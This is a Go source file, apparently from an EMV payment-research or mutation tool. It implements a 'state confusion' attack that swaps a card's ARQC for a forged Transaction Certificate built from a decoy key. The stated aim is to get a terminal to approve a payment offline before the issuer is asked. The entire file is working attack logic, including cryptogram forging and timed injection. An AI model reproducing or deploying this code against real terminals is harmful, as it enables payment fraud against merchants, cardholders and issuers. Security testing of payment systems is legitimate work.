package attack

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io"

	"github.com/gregLibert/emv-mutator/pkg/emv"
	"github.com/gregLibert/emv-mutator/pkg/forge"
)

// IADLen is the size of the random Issuer Application Data put in a forged TC.
const IADLen = 8

// StateConfusion answers the card's ARQC with a forged TC, so that a
// terminal accepting offline approval mid-flight completes the payment
// before the issuer is asked. The ARQC content is not read: the TC is built
// from the transaction's PAN surrogate and ATC.
type StateConfusion struct {
	Scheduler *Scheduler
	// Rand supplies the IAD. Nil means crypto/rand.
	Rand    io.Reader
	Metrics *Metrics
}

func (p *StateConfusion) Process(ctx context.Context, tx *Transaction, _ []byte, dir Direction) ([]byte, error) {
	if err := requireDirection(TypeStateConfusion, dir, CardToTerminal); err != nil {
		return nil, err
	}
	if tx == nil {
		return nil, fmt.Errorf("state confusion: %w", ErrNoTransaction)
	}

	sched := p.Scheduler
	if sched == nil {
		sched = NewScheduler()
	}

	slot, err := sched.Plan(tx)
	if err != nil {
		p.Metrics.observeInjection(InjectionExpired)
		return nil, err
	}

	rec, err := p.forgeTC(tx)
	if err != nil {
		return nil, fmt.Errorf("state confusion: %w", err)
	}

	if err := sched.Wait(ctx, slot); err != nil {
		if errors.Is(err, ErrInjectionWindowExpired) {
			p.Metrics.observeInjection(InjectionExpired)
		} else {
			p.Metrics.observeInjection(InjectionCancelled)
		}
		return nil, err
	}

	p.Metrics.observeInjection(InjectionInjected)
	return rec.Bytes(), nil
}

func (p *StateConfusion) forgeTC(tx *Transaction) (*emv.TCRecord, error) {
	src := p.Rand
	if src == nil {
		src = rand.Reader
	}

	iad := make([]byte, IADLen)
	if _, err := io.ReadFull(src, iad); err != nil {
		return nil, fmt.Errorf("read IAD: %w", err)
	}

	key := forge.DeriveDecoySessionKey(forge.DecoySeed(tx.PAN))
	ac, err := forge.ComputeForgedCryptogram(key, tx.ATC, iad)
	if err != nil {
		return nil, err
	}

	return &emv.TCRecord{
		CID:        emv.CIDTC,
		ATC:        tx.ATC,
		Cryptogram: ac,
		IAD:        iad,
	}, nil
}
